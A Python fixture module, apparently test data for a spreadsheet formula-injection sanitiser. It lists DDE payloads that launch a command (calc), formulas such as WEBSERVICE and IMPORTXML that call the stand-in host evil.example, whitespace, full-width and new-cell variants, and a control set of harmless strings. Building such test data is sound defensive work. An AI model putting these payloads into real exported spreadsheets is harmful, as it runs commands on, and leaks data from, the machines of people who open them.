"""What people type to make a spreadsheet of somebody else run something."""

RUN = (
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)", "=HYPERLINK(\"http://evil.example\",\"click\")",
    "=IMPORTXML(\"http://evil.example\",\"//a\")", "=WEBSERVICE(\"http://evil.example\")", "+cmd|'/C calc'!A0",
    "-2+3+cmd|' /C calc'!D2", "@SUM(cmd|'/c calc'!A0)", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=", "+", "-", "@",
)  # fmt: skip
BEFORE = (
    " ",
    "   ",
    "\t",
    "\n",
    "\r",
    "\r\n",
    "\0",
    "\u00a0",
    "\u200b",
    "\ufeff",
    "\u2003",
    "\v",
    "\f",
    "\u200e",
    " \t ",
)
FULL_WIDTH = (
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1+1)",
    "﹦1+1",
    "﹢1",
    "﹣1",
    "﹫SUM(1)",
    " ＝1+1",
    "\t＝1+1",
    "\u200b＝1+1",
)
NEW_CELLS = ('a;=1+1;b', "a; =1+1", "a;\t=1+1", "a\t=1+1", 'a";=1+1;"', 'a",=1+1,"', 'a\n=1+1', 'a"\r\n=1+1', "a;+1", "a;@SUM(1)")  # fmt: skip
PAYLOADS = (*RUN, *(f"{each}=1+1" for each in BEFORE), *FULL_WIDTH, *NEW_CELLS)

HARMLESS = ("Harrow Pumps", "Grüße, “Welt”", "a = b", "3 - 2", "me@example.com", "漢字", "a, b; c", 'He said "no"', "…", "x" * 400)  # fmt: skip
